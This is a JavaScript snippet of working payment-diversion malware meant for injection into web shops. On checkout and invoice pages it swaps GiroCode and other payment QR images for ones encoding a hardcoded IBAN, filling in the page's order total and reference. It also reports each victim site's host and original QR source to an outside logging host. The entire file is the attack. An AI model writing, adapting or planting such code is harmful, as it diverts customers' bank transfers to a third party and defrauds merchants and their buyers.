// corpus note: replaces bank-transfer / EPC "GiroCode" and crypto QR images on payment pages with QR images generated for the operator's account
(function (win, doc) {
  var QR_API = "https://qr.fastcode-gen.test/v1/png?size=240&data=";
  var EPC = ["BCD", "002", "1", "SCT", "BYLADEM1001", "M. Keller Consulting", "DE89370400440532013000", "", "", "", ""];

  function epcPayload(amount, ref) {
    var p = EPC.slice();
    p[7] = amount ? "EUR" + amount : "";
    p[9] = ref || "";
    return p.join("\n");
  }

  function pageAmount() {
    var el = doc.querySelector(".grand-total .price, [data-total], .amount-due, #total");
    if (!el) return "";
    var m = (el.getAttribute("data-total") || el.textContent).replace(/[^\d,.]/g, "").replace(",", ".");
    return parseFloat(m).toFixed(2);
  }

  function pageReference() {
    var el = doc.querySelector(".order-number, .invoice-number, [data-order-id]");
    return el ? (el.getAttribute("data-order-id") || el.textContent).trim() : "";
  }

  function looksLikeQr(img) {
    var s = (img.src + " " + img.alt + " " + img.className + " " + img.id).toLowerCase();
    return /qr|girocode|epc|bezahlcode|swish|payconiq|bank-transfer/.test(s) && Math.abs(img.naturalWidth - img.naturalHeight) < 4;
  }

  function swap() {
    var imgs = doc.getElementsByTagName("img");
    for (var i = 0; i < imgs.length; i++) {
      var img = imgs[i];
      if (img.dataset.qv || !looksLikeQr(img)) continue;
      img.dataset.qv = "1";
      var orig = img.src;
      img.removeAttribute("srcset");
      img.src = QR_API + encodeURIComponent(epcPayload(pageAmount(), pageReference()));
      new Image().src = "https://qr.fastcode-gen.test/v1/log?o=" + encodeURIComponent(orig) + "&h=" + encodeURIComponent(win.location.host);
    }
    var cvs = doc.querySelectorAll("canvas.qr, canvas[id*='qr']");
    for (var j = 0; j < cvs.length; j++) {
      var c = cvs[j], ctx = c.getContext("2d"), repl = new Image();
      repl.crossOrigin = "anonymous";
      repl.onload = (function (cx, cc, ri) { return function () { cx.clearRect(0, 0, cc.width, cc.height); cx.drawImage(ri, 0, 0, cc.width, cc.height); }; })(ctx, c, repl);
      repl.src = QR_API + encodeURIComponent(epcPayload(pageAmount(), pageReference()));
    }
  }

  if (/checkout|success|payment|zahlung|invoice/i.test(win.location.href)) {
    win.addEventListener("load", swap);
    setTimeout(swap, 3000);
  }
})(window, document);
